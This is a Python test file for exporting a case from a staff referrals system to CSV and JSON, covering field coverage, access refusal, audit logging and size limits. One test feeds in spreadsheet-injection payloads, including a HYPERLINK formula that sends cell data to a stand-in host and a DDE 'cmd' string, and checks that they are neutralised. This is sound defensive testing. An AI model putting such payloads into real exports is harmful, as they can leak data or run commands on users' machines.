"""One case as a file: all that is stored of it, and nothing that opens anything."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import fields, replace
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from chalicelib.referrals.case import Case
from chalicelib.referrals.case_links import EndedLink, Link, LinkKind
from chalicelib.referrals.case_work import CaseWork, Conflict
from chalicelib.referrals.csv_file import BYTE_ORDER_MARK
from chalicelib.referrals.disposal import Hold
from chalicelib.referrals.information import Addition, InformationRequest
from chalicelib.referrals.redacted_pack import Pack
from chalicelib.referrals.redirection import Redirection
from chalicelib.referrals.referral import Referral
from chalicelib.referrals.staff import Person
from chalicelib.web.http import Response
from chalicelib.web.staff import case_files, download
from tests.unit.use_cases.instance import ANSWERS
from tests.unit.web.staff.conftest import AUDITOR, CHAIR, MANAGER, MEMBER, SUPPORT, Office
from tests.unit.web.staff.test_canary import MARK, marked

NOW = datetime(2026, 11, 20, 15, 0, tzinfo=UTC)
HASH = "f0" * 32
FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"Open")'
KINDS = ("csv", "json")


def take(office: Office, reference: str, kind: str, person: Person = MANAGER) -> Response:
    return office.at_desk(person).send("GET", f"/staff/cases/{reference}/case.{kind}")


def lines(response: Response) -> list[tuple[str, str, str]]:
    assert response.status == 200, response.body[-2000:]
    text = response.body.removeprefix(BYTE_ORDER_MARK)
    read = csv.reader(io.StringIO(text, newline=""))
    assert next(read) == ["Section", "Question", "Answer"]
    return [(section, question, answer) for section, question, answer in read]


def change(office: Office, reference: str, **work: Any) -> None:
    """The case with other work done: what the forms of other tests do."""
    cases = office.instance.table.cases
    case = cases[reference]
    cases[reference] = replace(case, work=replace(case.work, **work))


def a_request(**changes: Any) -> InformationRequest:
    request = InformationRequest(
        id="r-1",
        code=HASH,
        question="When was the last visit?",
        answer_by=date(2026, 12, 4),
        expires_on=date(2027, 1, 1),
        asked_by=MANAGER.id,
        name=MANAGER.name,
        at=NOW,
    )
    return replace(request, **changes)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("form", ["adult", "child"])
def test_every_answer_is_in_the_file(office: Office, form: str, kind: str) -> None:
    reference = office.receive(form, **marked(ANSWERS[form]))

    body = take(office, reference, kind).body

    typed = [
        value
        for item in (marked(ANSWERS[form]), *_items(form))
        for value in item.values()
        if isinstance(value, str) and MARK in value
    ]
    assert typed
    assert [value for value in typed if value not in body] == []


def _items(form: str) -> list[dict[str, Any]]:
    lists = (value for value in marked(ANSWERS[form]).values() if isinstance(value, list))
    return [item for value in lists for item in value if isinstance(item, dict)]


def test_csv_tells_section_question_and_answer(office: Office) -> None:
    reference = office.receive()

    told = lines(take(office, reference, "csv"))

    assert ("This file", "Made by", "Mo Manager on 20 November 2026 at 2:30pm") in told
    assert ("The case", "Reference", reference) in told
    assert ("The case", "Stage", "Received, not acknowledged") in told
    assert any("Canary summary of neglect" in answer for _, _, answer in told)
    assert any(
        section == "Deadlines" and question == "Acknowledge the referral"
        for section, question, _ in told
    )
    assert any(section == "Emails" for section, _, _ in told)
    assert any(question.endswith("the referrer") for s, question, _ in told if s == "What was done")


def test_json_has_the_answers_with_their_texts(office: Office) -> None:
    reference = office.receive()

    document = json.loads(take(office, reference, "json").body)

    asked = document["notification"]["questions"]["outcome_status"]
    assert asked["options"] == {"died": asked["options"]["died"]}
    assert document["notification"]["answers"]["outcome_status"] == "died"
    assert document["case"]["reference"] == reference
    assert document["case"]["deadlines"][0]["due_on"] == "2026-11-24"
    assert [one["kind"] for one in document["deliveries"]][:2] == ["team_email", "receipt_email"]
    assert document["made_at"] == "2026-11-20T14:30:00Z"
    assert document["marking"] == "OFFICIAL-SENSITIVE"


def test_json_leaves_out_no_part_of_a_case_but_what_is_named(office: Office) -> None:
    reference = office.receive()

    document = json.loads(take(office, reference, "json").body)

    whole = {one.name for one in fields(Case)} - case_files.LEFT_OUT[Case]
    assert set(document["case"]) == whole
    assert set(document["case"]["work"]) == {one.name for one in fields(CaseWork)}
    assert set(document["notification"]) == {one.name for one in fields(Referral)}


@pytest.mark.parametrize("kind", KINDS)
def test_what_was_asked_and_added_is_in_it_but_not_what_opens_it(office: Office, kind: str) -> None:
    reference = office.receive()
    change(office, reference, requests=(a_request(),))
    added = Addition("a-1", reference, "r-1", NOW, "Sam Okafor", "On the third of May.")
    office.instance.table.additions[reference] = [added]

    body = take(office, reference, kind).body

    for text in ("When was the last visit?", "On the third of May.", "Sam Okafor"):
        assert text in body
    assert HASH not in body


@pytest.mark.parametrize("kind", KINDS)
def test_of_linked_cases_it_names_those_that_the_person_may_open(office: Office, kind: str) -> None:
    reference, seen, hidden = office.receive(), office.receive(), office.receive()
    linked = [
        Link(f"l-{other}", other, LinkKind.RELATED, "Same home", "p-1", "Pat", NOW)
        for other in (seen, hidden)
    ]
    change(office, reference, links=tuple(linked))
    change(office, hidden, conflicts={MANAGER.id: Conflict("Mo", "A relative", "Pat", NOW)})

    body = take(office, reference, kind).body

    assert seen in body
    assert hidden not in body


@pytest.mark.parametrize("kind", KINDS)
def test_what_staff_wrote_of_links_packs_and_concerns_is_in_it(office: Office, kind: str) -> None:
    reference, other = office.receive(), office.receive()
    link = Link("l-1", other, LinkKind.RELATED, f"{MARK}linked", "p-1", "Pat", NOW)
    change(
        office,
        reference,
        links=(link,),
        ended_links=(EndedLink(replace(link, id="l-2"), f"{MARK}ended", "Pat", NOW),),
        redirections=(
            Redirection("Duty", f"{MARK}told", NOW, f"{MARK}theirs", True, "p-1", "Pat", NOW),
        ),
        packs=(Pack("k-1", f"{MARK}why", f"{MARK}whom", NOW.date(), (), (), "p-1", "Pat", NOW),),
        holds=(Hold("h-1", f"{MARK}inquest", "p-1", "Pat", NOW),),
    )

    body = take(office, reference, kind).body

    typed = ("linked", "ended", "told", "theirs", "why", "whom", "inquest")
    assert [one for one in typed if f"{MARK}{one}" not in body] == []


@pytest.mark.parametrize("kind", KINDS)
def test_whoever_may_not_learns_nothing(office: Office, kind: str) -> None:
    reference, barred = office.receive(), office.receive()
    change(office, barred, conflicts={MANAGER.id: Conflict("Mo", "A relative", "Pat", NOW)})

    answers = [
        take(office, reference, kind, person) for person in (SUPPORT, MEMBER, CHAIR, AUDITOR)
    ]
    refused = [take(office, one, kind) for one in (barred, "SUF-BBBB-BBBB", "SUF-YEAR", "x")]

    assert {one.status for one in (*answers, *refused)} == {403}
    assert len({one.body for one in refused}) == 1
    assert "exported a case" not in office.actions()
    assert office.instance.table.audit[-1].reference == ""


@pytest.mark.parametrize("kind", KINDS)
def test_each_export_is_recorded_with_ids_only(office: Office, kind: str) -> None:
    reference = office.receive()
    take(office, reference, kind)

    entry = office.instance.table.audit[-1]
    assert (entry.action, entry.reference, entry.details) == (
        "exported a case",
        reference,
        {"as": kind},
    )


def test_a_formula_in_an_answer_is_text(office: Office) -> None:
    reference = office.receive(
        summary=FORMULA,
        cause_of_death="\t+cmd|' /C calc'!A0",
        adults=[{"adult_forename": "@SUM(A1)", "adult_surname": "\uff1d1+1"}],
    )

    told = [cell for line in lines(take(office, reference, "csv")) for cell in line]

    assert f"'{FORMULA}" in told
    assert "'@SUM(A1)" in told
    assert [cell for cell in told if cell[:1] in tuple("=+-@\t\r\uff1d")] == []


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=st.text(min_size=1, max_size=200))
@example('",\r\n=1+1,"')
@example("\u2028\u2029\u202e<script>")
def test_whatever_staff_and_referrers_write_can_be_read_back(text: str) -> None:
    office = SHARED
    change(office, REFERENCE, requests=(a_request(question=text),))
    added = Addition("a-1", REFERENCE, "r-1", NOW, "Sam", text)
    office.instance.table.additions[REFERENCE] = [added]

    document = json.loads(take(office, REFERENCE, "json").body.encode().decode())
    told = lines(take(office, REFERENCE, "csv"))

    assert document["additions"][0]["text"] == document["case"]["work"]["requests"][0]["question"]
    (asked,) = [answer for _, question, answer in told if question == "Question"]
    assert asked in (plain_text(text), f"'{plain_text(text)}")
    assert len(told) > LENGTH


def plain_text(text: str) -> str:
    """The text as a file can hold it."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]", "\ufffd", text)


SHARED = Office()
REFERENCE = SHARED.receive()
LENGTH = len(lines(take(SHARED, REFERENCE, "csv")))


@pytest.mark.parametrize("kind", KINDS)
def test_a_case_that_is_too_large_for_a_file_says_what_to_do(
    office: Office, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(download, "MOST_BYTES", 500)
    reference = office.receive()

    page = office.open(reference, f"case.{kind}")

    assert page.status == 413
    assert page.links["Print the case"] == f"/staff/cases/{reference}/print"


@pytest.mark.parametrize("text", ['"' * 20_000, "\n" * 20_000, "\u00e9" * 20_000, "\\" * 20_000])
def test_the_largest_case_fits_into_the_answer_of_a_function(office: Office, text: str) -> None:
    reference = office.receive()
    requests = tuple(a_request(id=f"r-{n}", question=text[:2_000]) for n in range(100))
    change(office, reference, requests=requests)

    for kind in KINDS:
        response = take(office, reference, kind)
        carried = json.dumps({"body": response.body, "headers": dict(response.headers)})
        assert len(carried) < 6_000_000
        assert response.status == 200


@pytest.mark.parametrize(
    ("person", "offered"),
    [
        (MANAGER, {"case.csv", "case.json", "calendar.ics", "audit"}),
        (AUDITOR, {"calendar.ics", "audit"}),
        (SUPPORT, {"calendar.ics"}),
    ],
    ids=lambda value: value.name if isinstance(value, Person) else "",
)
def test_a_case_leads_each_role_to_its_files(
    office: Office, person: Person, offered: set[str]
) -> None:
    reference = office.receive()
    page = office.at_desk(person).get(
        office.open(reference, person=person).links["Export this case"]
    )

    hrefs = {text: href for text, href in page.links.items() if "All" in text or "Its" in text}
    files = {href.partition("?")[0].rpartition("/")[2] for href in hrefs.values()}
    assert files == offered
    assert [office.at_desk(person).send("GET", one).status for one in hrefs.values()] == [
        200 for _ in hrefs
    ]


@pytest.mark.parametrize("tail", ["export", "case.csv", "case.json", "calendar.ics"])
def test_a_barred_person_and_a_case_that_there_is_not_are_answered_alike(
    office: Office, tail: str
) -> None:
    barred = office.receive()
    change(office, barred, conflicts={MANAGER.id: Conflict("Mo", "A relative", "Pat", NOW)})

    pages = [office.open(one, tail) for one in (barred, "SUF-BBBB-BBBB", "SUF-YEAR")]

    assert {(page.status, page.html) for page in pages} == {(403, pages[0].html)}
